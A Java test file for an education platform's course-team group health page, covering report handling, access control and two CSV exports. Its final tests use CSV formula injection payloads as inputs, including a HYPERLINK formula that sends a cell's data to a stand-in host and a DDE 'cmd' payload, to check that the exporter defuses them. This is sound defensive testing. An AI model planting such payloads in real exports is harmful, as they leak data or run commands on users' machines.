package org.entraide.group;

import static io.restassured.RestAssured.given;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.matchesPattern;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.entraide.testing.Browser;
import org.entraide.testing.Db;
import org.entraide.testing.Groups;
import org.entraide.testing.Groups.Learner;
import org.entraide.testing.Groups.TestCourse;
import org.entraide.testing.Html;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/** The course team's group health page, its reports and the two CSV exports; what others may not see. */
@QuarkusTest
class GroupHealthTest {

    /** A course with a study group of four (one of whom left, one reported) and a tandem. */
    record Fixture(TestCourse course, long studyGroup, long tandem, List<Learner> study, List<Learner> pair, long reportId) {
    }

    private static Fixture fixture;

    static synchronized Fixture fixture() {
        if (fixture == null) {
            TestCourse course = Groups.course("TANDEM,STUDY_GROUP", 3);
            List<Learner> study = List.of(Groups.learner(course, "Ana", "STUDY_GROUP"), Groups.learner(course, "Ben", "STUDY_GROUP"),
                    Groups.learner(course, "Cyd", "STUDY_GROUP"), Groups.learner(course, "Dee", "STUDY_GROUP"));
            long studyGroup = Groups.formGroup(course, "STUDY_GROUP", study);
            List<Learner> pair = List.of(Groups.learner(course, "Eli", "TANDEM"), Groups.learner(course, "Fox", "TANDEM"));
            long tandem = Groups.formGroup(course, "TANDEM", pair);
            assertEquals(303, study.get(3).browser().post("/groups/" + studyGroup + "/leave", "reason", "No time left").statusCode());
            assertEquals(303, study.get(0).browser().post("/groups/" + studyGroup + "/report", "reported",
                    String.valueOf(study.get(1).personId()), "reason", "Ignores every message").statusCode());
            long reportId = Db.tx(() -> MemberReport.<MemberReport>find("group.id", studyGroup).firstResult().id);
            fixture = new Fixture(course, studyGroup, tandem, study, pair, reportId);
        }
        return fixture;
    }

    static String groupsPath(Fixture f) {
        return "/courses/" + f.course().id() + "/manage/groups";
    }

    @Test
    void theCourseTeamSeesHealthAndReportsButNoPrivateContent() {
        Fixture f = fixture();
        f.course().team().get(groupsPath(f)).then().statusCode(200)
                .body(containsString("study-group-" + f.studyGroup()), containsString("tandem-" + f.tandem()),
                        containsString("Ana, Ben, Cyd"), containsString("3 (minimum 3)"), containsString("2 (minimum 2)"),
                        containsString("Dee, "), containsString("</time>: “No time left”"),
                        containsString("Ignores every message"),
                        containsString("/manage/groups/export.csv"), containsString("/manage/groups/openedx.csv"),
                        // and the platform's way to read them, with a token (GroupApiTest, ApiTokenTest)
                        containsString("<a href=\"/account/tokens\">"),
                        containsString("<code>GET /api/courses/" + f.course().id() + "/groups</code>"))
                // what members shared with each other stays in the group
                .body(not(containsString("private to partners")), not(containsString("Paris, France")))
                // HTML allows at most three digits of a second in datetime; the database keeps six
                .body(containsString("<time datetime=\""), not(matchesPattern("(?s).*datetime=\"[^\"]*\\.\\d{4,}Z\".*")));
        assertThat("French sets a space before the colon and quotes with guillemets",
                f.course().team().acceptLanguage("fr").get(groupsPath(f)).asString(), containsString("</time> : « No time left »"));
        f.course().team().acceptLanguage("en");
    }

    @Test
    void groupsQuietForTwoWeeksAreOneClickAway() {
        TestCourse course = Groups.course("TANDEM", 3);
        long quiet = Groups.tandemIn(course, "Gil", "Hal");
        long lively = Groups.tandemIn(course, "Ivy", "Jon");
        String path = "/courses/" + course.id() + "/manage/groups";
        assertThat(course.team().get(path).asString(), not(containsString("?quiet=1")));

        Db.run(() -> LearningGroup.<LearningGroup>findById(quiet).lastActivityAt = Instant.now().minus(Duration.ofDays(15)));

        String all = course.team().get(path).asString();
        assertThat(all, containsString("<a href=\"" + path + "?quiet=1#groups\">Show the group quiet for two weeks or more</a>"));
        assertThat(all, containsString("tandem-" + lively));
        String filtered = course.team().get(path + "?quiet=1").asString();
        assertThat(filtered, containsString("1 group is quiet for two weeks or more"));
        assertThat(filtered, containsString("tandem-" + quiet));
        assertThat(filtered, not(containsString("tandem-" + lively)));
        assertThat(filtered, containsString(Html.en("groups.show-all")));
        assertThat(course.team().acceptLanguage("fr").get(path + "?quiet=1").asString(), containsString("1 groupe est silencieux"));
    }

    @Test
    void aReportIsMarkedHandledOnlyByThisCoursesTeam() {
        Fixture f = fixture();
        assertEquals(303, f.study().get(2).browser().post("/groups/" + f.studyGroup() + "/report", "reported",
                String.valueOf(f.study().get(0).personId()), "reason", "Shares answers of graded work").statusCode());
        long reportId = Db.tx(() -> MemberReport.<MemberReport>find("reason", "Shares answers of graded work").firstResult().id);
        f.course().team().get(groupsPath(f)).then().body(containsString("Shares answers of graded work"), containsString("Mark as handled"));
        TestCourse other = Groups.course("TANDEM", 3);
        String handle = groupsPath(f) + "/reports/" + reportId + "/handled";
        assertEquals(404, other.team().post("/courses/" + other.id() + "/manage/groups/reports/" + reportId + "/handled").statusCode());
        assertEquals(404, other.team().post(handle).statusCode());
        assertEquals(403, f.study().get(0).browser().post(handle).statusCode());
        assertNull(Db.tx(() -> MemberReport.<MemberReport>findById(reportId).handledAt));

        Response handled = f.course().team().post(handle);
        assertEquals(303, handled.statusCode());
        assertEquals(groupsPath(f), Browser.locationPath(handled));
        assertNotNull(Db.tx(() -> MemberReport.<MemberReport>findById(reportId).handledAt));
        f.course().team().get(groupsPath(f)).then().body(containsString("Handled on"));
    }

    @Test
    void learnersGet403AndOtherTeams404AndVisitorsTheSignInPage() {
        Fixture f = fixture();
        TestCourse other = Groups.course("TANDEM", 3);
        for (String path : List.of(groupsPath(f), groupsPath(f) + "/export.csv", groupsPath(f) + "/openedx.csv")) {
            f.study().get(0).browser().get(path).then().statusCode(403);
            other.team().get(path).then().statusCode(404);
            Response anonymous = new Browser().get(path);
            assertEquals(302, anonymous.statusCode(), path);
            assertTrue(anonymous.header("Location").contains("/login"), path);
        }
    }

    @Test
    void theEntraideExportHasOneRowPerMembershipWithContactsAndDepartures() throws IOException {
        Fixture f = fixture();
        Response response = f.course().team().get(groupsPath(f) + "/export.csv");
        response.then().statusCode(200).contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("attachment"));
        List<CSVRecord> rows = parse(response.asString());
        assertEquals(GroupExports.ENTRAIDE_COLUMNS, rows.get(0).toList());
        List<CSVRecord> data = rows.subList(1, rows.size());
        assertEquals(6, data.size(), "four study-group memberships (one left) and two tandem ones");
        CSVRecord dee = data.stream().filter(r -> r.get(5).equals(String.valueOf(f.study().get(3).personId()))).findFirst().orElseThrow();
        assertEquals(String.valueOf(f.studyGroup()), dee.get(0));
        assertEquals("STUDY_GROUP", dee.get(1));
        assertEquals("ACTIVE", dee.get(2));
        assertEquals("Dee", dee.get(6));
        assertEquals(f.study().get(3).email(), dee.get(7));
        assertTrue(!dee.get(8).isEmpty() && !dee.get(9).isEmpty());
        assertEquals("No time left", dee.get(10));
        assertEquals("false", dee.get(11), "Dee left by herself");
        assertEquals("false", dee.get(12));
        CSVRecord eli = data.stream().filter(r -> r.get(7).equals(f.pair().get(0).email())).findFirst().orElseThrow();
        assertEquals("TANDEM", eli.get(1));
        assertEquals("", eli.get(9));
    }

    @Test
    void theOpenEdxExportHasTheTeamMembershipHeaderAndOneRowPerCurrentMember() throws IOException {
        Fixture f = fixture();
        Response response = f.course().team().get(groupsPath(f) + "/openedx.csv");
        response.then().statusCode(200).contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("attachment"));
        String body = response.asString();
        assertTrue(body.startsWith("username,external_user_id,mode,entraide-tandem,entraide-study-group\r\n"), body);
        List<CSVRecord> rows = parse(body);
        Map<String, CSVRecord> byUser = rows.subList(1, rows.size()).stream().collect(Collectors.toMap(r -> r.get(0), r -> r));
        assertEquals(5, byUser.size(), "three current study-group members and the tandem; not the one who left");
        for (Learner learner : f.study().subList(0, 3)) {
            CSVRecord row = byUser.get(learner.email().substring(0, learner.email().indexOf('@')));
            assertNotNull(row, learner.email());
            assertEquals(List.of("", "audit", "", "study-group-" + f.studyGroup()), row.toList().subList(1, 5));
        }
        for (Learner learner : f.pair()) {
            CSVRecord row = byUser.get(learner.email().substring(0, learner.email().indexOf('@')));
            assertEquals("tandem-" + f.tandem(), row.get(3));
            assertEquals("", row.get(4));
        }
    }

    @Test
    void spreadsheetFormulasInTypedTextAreDefused() {
        assertEquals("'=HYPERLINK(\"x\")", GroupExports.safe("=HYPERLINK(\"x\")"));
        assertEquals("'@cmd", GroupExports.safe("@cmd"));
        assertEquals("No time", GroupExports.safe("No time"));
    }

    @Test
    void anOpenEdxUsernameIsWrittenAsItIsAndAnEmailThatCouldRunAsAFormulaIsDefused() {
        assertEquals("ana_b+1", GroupExports.username(person("ana_b+1@example.org")));
        assertEquals("-ana.b", GroupExports.username(person("-ana.b@example.org")), "a username Open edX allows, found by the upload");
        assertEquals("élise", GroupExports.username(person("élise@import.invalid")));
        assertEquals("'=HYPERLINK(\"http://x.test/?\"&A2)", GroupExports.username(person("=HYPERLINK(\"http://x.test/?\"&A2)@example.org")));
        assertEquals("'+cmd|'/Ccalc'!A0", GroupExports.username(person("+cmd|'/Ccalc'!A0@example.org")));
    }

    private static org.entraide.account.Person person(String email) {
        org.entraide.account.Person person = new org.entraide.account.Person();
        person.email = email;
        return person;
    }

    static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.DEFAULT)) {
            return parser.getRecords();
        }
    }

    static io.restassured.specification.RequestSpecification api(Browser browser) {
        return given().redirects().follow(false).cookies(Map.copyOf(browser.cookies()));
    }
}
